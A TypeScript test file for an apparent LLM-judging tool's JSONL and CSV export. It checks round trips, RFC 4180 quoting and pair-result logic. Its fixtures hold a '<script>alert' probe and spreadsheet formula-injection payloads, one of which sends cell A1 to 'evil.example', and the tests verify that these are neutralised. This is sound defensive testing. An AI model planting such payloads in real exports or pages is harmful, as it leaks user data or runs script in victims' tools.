// Export round trips: store → JSONL/CSV → parse back, with hostile text (commas, quotes, newlines, <script>).
import 'fake-indexeddb/auto';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { csvField } from '../../src/lib/data/csv';
import {
  CSV_COLUMNS,
  exampleLabel,
  exportFileName,
  exportJudgmentsBlob,
  judgmentsToCsv,
  judgmentsToJsonl,
  pairResult,
  type ExportEntry,
  type ExportHeader,
  type ExportedJudgment,
} from '../../src/lib/data/export';
import { createRepositories, type Repositories } from '../../src/lib/store';
import { EXAMPLES } from '../../src/lib/data/examples';
import { makeItem, makeJudgment, openTestDb } from '../store/fixtures';

/** A strict RFC 4180 reader: quoted fields may hold commas, doubled quotes, CR and LF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i += 1;
      } else {
        field += c;
        i += 1;
      }
    } else if (c === '"') {
      if (field !== '') throw new Error(`quote inside unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      field += c;
      i += 1;
    }
  }
  if (quoted) throw new Error('unterminated quote');
  if (field !== '' || row.length > 0) throw new Error('last record lacks CRLF');
  return rows;
}

async function collect(gen: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const chunk of gen) out += chunk;
  return out;
}

const hostile = {
  prompt: 'Compare: "a, b", and\nthen c.\r\nDone; ok?',
  responseA: '<script>alert("x")</script>, really',
  responseB: '  leading and trailing spaces  ',
  reference: '=HYPERLINK("http://evil")',
  text: '<think>He said ""quoted"" things,\nover lines.</think>\n<answer>[[B]]</answer> 日本語 🎉',
};

let close: () => Promise<void>;
let repo: Repositories;
const now = () => new Date('2026-11-05T10:30:00.000Z');

beforeEach(async () => {
  const t = await openTestDb();
  close = t.close;
  repo = createRepositories(t.db);
  await repo.items.put(
    makeItem({
      prompt: hostile.prompt,
      responseA: hostile.responseA,
      responseB: hostile.responseB,
      reference: hostile.reference,
      modelA: 'gpt-4',
      category: 'coding',
    }),
  );
  await repo.judgments.put(
    makeJudgment({
      id: 'j-ab',
      createdAt: 1_762_338_600_000,
      text: hostile.text,
      verdict: 'B',
      rawVerdict: 'B',
      score: null,
    }),
  );
  await repo.judgments.put(
    makeJudgment({
      id: 'j-ba',
      order: 'BA',
      createdAt: 1_762_338_600_001,
      verdict: 'A',
      rawVerdict: 'B',
      parse: 'failed',
      parseSpan: null,
      probabilities: { A: 0.25, B: 0.5, tie: 0.25 },
      params: {
        temperature: 1,
        seed: null,
        max_tokens: 512,
        samples: 3,
        bothOrders: true,
        constrained: true,
        top_logprobs: 5,
      },
      usage: {
        promptTokens: 10,
        completionTokens: 0,
        prefillTokensPerS: null,
        decodeTokensPerS: null,
        timeToFirstTokenMs: null,
        totalMs: 12,
      },
    }),
  );
  await repo.judgments.put(
    makeJudgment({
      id: 'j-orphan',
      runId: 'run-2',
      itemId: 'gone',
      createdAt: 1_762_338_600_002,
      usage: {
        promptTokens: 5,
        completionTokens: 7,
        prefillTokensPerS: 1234.5678901,
        decodeTokensPerS: 33.333333333,
        timeToFirstTokenMs: 81.79999999999927,
        totalMs: 745.8000000000466,
      },
    }),
  );
});
afterEach(async () => {
  await close();
});

describe('JSONL', () => {
  test('header first, then one parseable record per line, equal to what was stored', async () => {
    const text = await collect(
      judgmentsToJsonl(repo.judgments.allWithItems(), { source: 'https://arbiter.test/', now }),
    );
    const lines = text.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(4);
    const header = JSON.parse(lines[0]!) as ExportHeader;
    expect(header).toEqual({
      type: 'arbiter-judgments',
      version: 1,
      source: 'https://arbiter.test/',
      exportedAt: '2026-11-05T10:30:00.000Z',
    });
    const records = lines.slice(1).map((l) => JSON.parse(l) as ExportedJudgment);
    const { item: item0, pair: pair0, ...j0 } = records[0]!;
    expect(j0).toEqual(await repo.judgments.get('j-ab'));
    // The pair's overall result (the orders disagreed) and its human label, on each of its lines.
    const flipped = {
      result: 'flipped',
      consistency: 'flipped',
      humanLabel: 'A',
      agreesWithHuman: false,
    };
    expect(pair0).toEqual(flipped);
    expect(records[1]!.pair).toEqual(flipped);
    expect(records[2]!.pair).toEqual({
      result: 'A',
      consistency: 'one-order',
      humanLabel: null,
      agreesWithHuman: null,
    });
    // Timings come out rounded; texts come out exactly, formulas included.
    expect(records[2]!.usage).toEqual({
      promptTokens: 5,
      completionTokens: 7,
      prefillTokensPerS: 1234.57,
      decodeTokensPerS: 33.33,
      timeToFirstTokenMs: 82,
      totalMs: 746,
    });
    expect(item0!.reference).toBe(hostile.reference);
    expect(item0).toEqual(await repo.items.get('item-1'));
    expect(records[1]!.params).toMatchObject({ seed: null, top_logprobs: 5, samples: 3 });
    expect(records[2]!.item).toBeNull();
    expect(records[0]!.text).toBe(hostile.text);
  });
});

describe('CSV', () => {
  test('round trips every field, including commas, quotes, newlines and <script>', async () => {
    const text = await collect(
      judgmentsToCsv(repo.judgments.allWithItems(), { guardFormulas: false }),
    );
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.name));
    expect(rows).toHaveLength(4);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    const byName = rows
      .slice(1)
      .map((r) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c.name, r[i]])));
    const [ab, ba, orphan] = byName as [
      Record<string, string>,
      Record<string, string>,
      Record<string, string>,
    ];
    expect(ab).toMatchObject({
      id: 'j-ab',
      prompt: hostile.prompt,
      responseA: hostile.responseA,
      responseB: hostile.responseB,
      reference: hostile.reference,
      text: hostile.text,
      createdAt: new Date(1_762_338_600_000).toISOString(),
      templateId: 'j1-pairwise',
      templateVersion: '1',
      engine: 'test',
      modelId: 'Qwen3-4B-q4f32_1-MLC',
      temperature: '0',
      seed: '42',
      max_tokens: '1024',
      order: 'AB',
      verdict: 'B',
      parse: 'ok',
      parseStart: '30',
      parseEnd: '45',
      probA: '0.9',
      probTie: '',
      decodeTokensPerS: '32.1',
      label: 'A',
      modelA: 'gpt-4',
      modelB: '',
      category: 'coding',
      score: '',
      datasetId: 'ds-1',
      itemIndex: '0',
    });
    expect(ba).toMatchObject({
      order: 'BA',
      verdict: 'A',
      rawVerdict: 'B',
      parse: 'failed',
      parseStart: '',
      seed: '',
      constrained: 'true',
      top_logprobs: '5',
      probTie: '0.25',
      prefillTokensPerS: '',
      totalMs: '12',
    });
    expect(orphan).toMatchObject({
      id: 'j-orphan',
      prompt: '',
      itemIndex: '',
      totalMs: '746',
      timeToFirstTokenMs: '82',
      decodeTokensPerS: '33.33',
      pairResult: 'A',
      pairConsistency: 'one-order',
      humanLabel: '',
      agreesWithHuman: '',
    });
    expect(ab).toMatchObject({
      pairResult: 'flipped',
      pairConsistency: 'flipped',
      humanLabel: 'A',
      agreesWithHuman: 'false',
    });
  });

  test('guards formulas by default: a spreadsheet shows them as text', async () => {
    const text = await collect(judgmentsToCsv(repo.judgments.allWithItems()));
    const rows = parseCsv(text);
    const at = (name: string) => CSV_COLUMNS.findIndex((c) => c.name === name);
    expect(rows[1]![at('reference')]).toBe(`'${hostile.reference}`);
    // Texts that do not start like a formula, and numbers, are untouched.
    expect(rows[1]![at('prompt')]).toBe(hostile.prompt);
    expect(rows[1]![at('temperature')]).toBe('0');
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
  });

  test('field quoting follows RFC 4180', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
    expect(csvField(' pad')).toBe('" pad"');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(false)).toBe('false');
  });

  test.each([
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("https://evil.example/?q="&A1,"click")',
      `"'=HYPERLINK(""https://evil.example/?q=""&A1,""click"")"`,
    ],
    ['+1', "'+1"],
    ['-1 is wrong', "'-1 is wrong"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    ['\n=1+1', '"\'\n=1+1"'],
    ['a=1', 'a=1'],
  ])('guards %j as %s by default', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  test('numbers are never guarded, and guardFormulas: false writes text exactly', () => {
    expect(csvField(-1)).toBe('-1');
    expect(csvField('=1+1', { guardFormulas: false })).toBe('=1+1');
    expect(csvField('@x', { guardFormulas: false })).toBe('@x');
  });
});

describe('files', () => {
  test('blob types, BOM and file names', async () => {
    const entries: ExportEntry[] = [{ judgment: makeJudgment(), item: makeItem() }];
    const csv = await exportJudgmentsBlob(entries, 'csv', { source: 'x', bom: true });
    expect(csv.type).toBe('text/csv;charset=utf-8');
    expect(new Uint8Array(await csv.arrayBuffer()).slice(0, 3)).toEqual(
      new Uint8Array([0xef, 0xbb, 0xbf]),
    );
    const jsonl = await exportJudgmentsBlob(entries, 'jsonl', { source: 'x', now });
    expect((await jsonl.text()).split('\n')).toHaveLength(3);
    expect(exportFileName('jsonl', now())).toBe('arbiter-judgments-2026-11-05T10-30-00.jsonl');
  });
});

describe('pair result', () => {
  const jd = (order: 'AB' | 'BA', verdict: 'A' | 'B' | 'tie' | null, over = {}) =>
    makeJudgment({ id: `${order}-${verdict}`, order, verdict, ...over });
  test.each([
    ['consistent A', [jd('AB', 'A'), jd('BA', 'A')], 'A', 'consistent'],
    ['consistent B', [jd('AB', 'B'), jd('BA', 'B')], 'B', 'consistent'],
    ['tie in both orders', [jd('AB', 'tie'), jd('BA', 'tie')], 'tie', 'consistent'],
    ['flipped', [jd('AB', 'A'), jd('BA', 'B')], 'flipped', 'flipped'],
    ['nothing parsed', [jd('AB', null), jd('BA', null)], 'failed', 'failed'],
    ['one order unparsed', [jd('AB', null), jd('BA', 'B')], 'B', 'partial'],
    ['one order only', [jd('AB', 'A')], 'A', 'one-order'],
  ] as const)('%s', (_name, records, result, consistency) => {
    expect(pairResult(records)).toEqual({
      result,
      consistency,
      humanLabel: null,
      agreesWithHuman: null,
    });
  });

  test('single answers: the mean score, or failed', () => {
    const single = (score: number | null) =>
      makeJudgment({ protocol: 'single', templateId: 'j1-single', verdict: null, score });
    expect(pairResult([single(7), single(8)]).result).toBe(7.5);
    expect(pairResult([single(null)]).result).toBe('failed');
  });

  test('agreement with the human label: a flip never agrees', () => {
    expect(pairResult([jd('AB', 'B'), jd('BA', 'B')], 'B').agreesWithHuman).toBe(true);
    expect(pairResult([jd('AB', 'A'), jd('BA', 'A')], 'B').agreesWithHuman).toBe(false);
    expect(pairResult([jd('AB', 'B'), jd('BA', 'A')], 'B').agreesWithHuman).toBe(false);
  });

  test('the human label: set by hand, else the item gold label, else the bundled example', async () => {
    const ex = EXAMPLES[0]!;
    const exampleItem = makeItem({
      id: 'ex',
      prompt: ex.prompt,
      responseA: ex.responseA,
      responseB: ex.responseB,
      label: undefined,
    });
    expect(exampleLabel(exampleItem)).toBe(ex.label);
    expect(exampleLabel(makeItem())).toBeUndefined();
    const entries: ExportEntry[] = [
      { judgment: makeJudgment({ id: 'x1', runId: 'r-ex', itemId: 'ex' }), item: exampleItem },
      { judgment: makeJudgment({ id: 'x2', runId: 'r-gold', itemId: 'item-1' }), item: makeItem() },
      {
        judgment: makeJudgment({ id: 'x3', runId: 'r-hand', itemId: 'hand' }),
        item: makeItem({ id: 'hand' }),
      },
    ];
    const text = await collect(
      judgmentsToJsonl(entries, {
        source: 'x',
        now,
        labelOf: (id) => (id === 'hand' ? 'tie' : undefined),
      }),
    );
    const labels = text
      .trim()
      .split('\n')
      .slice(1)
      .map((l) => (JSON.parse(l) as ExportedJudgment).pair.humanLabel);
    expect(labels).toEqual([ex.label, 'A', 'tie']);
  });
});
